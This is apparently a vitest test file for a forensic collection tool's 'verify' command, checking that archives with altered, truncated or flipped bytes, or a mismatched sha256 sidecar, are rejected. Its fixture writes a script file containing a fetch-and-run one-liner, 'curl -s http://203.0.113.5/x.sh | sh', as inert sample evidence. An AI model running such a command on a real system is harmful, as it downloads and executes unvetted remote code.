// verify proves an archive with the archive alone: it accepts a good one and rejects altered bytes, truncation and a wrong sidecar.
import { mkdir, readFile, writeFile, copyFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCli } from '../helpers/run-cli.ts';
import { tempDir } from '../helpers/temp-dir.ts';

async function smallTree(root: string): Promise<void> {
  const d = path.join(root, 'var/lib/waagent/custom-script/download/0');
  await mkdir(d, { recursive: true });
  await writeFile(path.join(d, 'script.sh'), 'curl -s http://203.0.113.5/x.sh | sh\n'.repeat(50));
  await writeFile(path.join(d, 'stdout'), 'UNIQUE-STDOUT-CONTENT '.repeat(200));
}

describe('verify', () => {
  it('accepts a whole archive (gzip and plain tar) and checks the sidecar', async () => {
    const work = await tempDir();
    await smallTree(path.join(work, 'root'));
    for (const compress of ['gzip', 'none']) {
      const out = path.join(work, `a-${compress}`);
      expect((await runCli(['collect', '--root', path.join(work, 'root'), '--os', 'linux', '--compress', compress, '--hash', 'md5,sha1', '--output', out])).status).toBe(0);
      const v = await runCli(['verify', out]);
      expect(v.status, v.stderr).toBe(0);
      expect(v.summary).toMatchObject({ status: 'ok', sidecar: 'match', filesChecked: 2 });
    }
  });

  it('rejects a member whose bytes were altered, a truncated archive and a sidecar that does not match', async () => {
    const work = await tempDir();
    await smallTree(path.join(work, 'root'));
    const out = path.join(work, 'a.tar');
    expect((await runCli(['collect', '--root', path.join(work, 'root'), '--os', 'linux', '--compress', 'none', '--output', out])).status).toBe(0);

    const bytes = await readFile(out);
    const at = bytes.indexOf('UNIQUE-STDOUT-CONTENT');
    const altered = Buffer.from(bytes);
    altered[at] = 'X'.charCodeAt(0);
    await writeFile(path.join(work, 'altered.tar'), altered);
    const v1 = await runCli(['verify', path.join(work, 'altered.tar')]);
    expect(v1.status).toBe(1);
    expect(v1.summary!.errors).toContain('sha256 mismatch: fs/var/lib/waagent/custom-script/download/0/stdout');

    await writeFile(path.join(work, 'cut.tar'), bytes.subarray(0, at + 100));
    const v2 = await runCli(['verify', path.join(work, 'cut.tar')]);
    expect(v2.status).toBe(1);
    expect(JSON.stringify(v2.summary!.errors)).toMatch(/not whole|manifest.json is missing/);

    await copyFile(out, path.join(work, 'b.tar'));
    await writeFile(path.join(work, 'b.tar.sha256'), `${'0'.repeat(64)}  b.tar\n`);
    const v3 = await runCli(['verify', path.join(work, 'b.tar')]);
    expect(v3.status).toBe(1);
    expect(v3.summary!.sidecar).toBe('mismatch');
  });

  it('rejects a gzip archive with a flipped byte', async () => {
    const work = await tempDir();
    await smallTree(path.join(work, 'root'));
    const out = path.join(work, 'a.tar.gz');
    expect((await runCli(['collect', '--root', path.join(work, 'root'), '--os', 'linux', '--output', out])).status).toBe(0);
    const bytes = Buffer.from(await readFile(out));
    bytes[Math.floor(bytes.length / 2)]! ^= 0x55;
    await writeFile(path.join(work, 'flip.tar.gz'), bytes);
    const v = await runCli(['verify', path.join(work, 'flip.tar.gz')]);
    expect(v.status).toBe(1);
    expect(v.summary!.ok).toBe(false);
  });
});
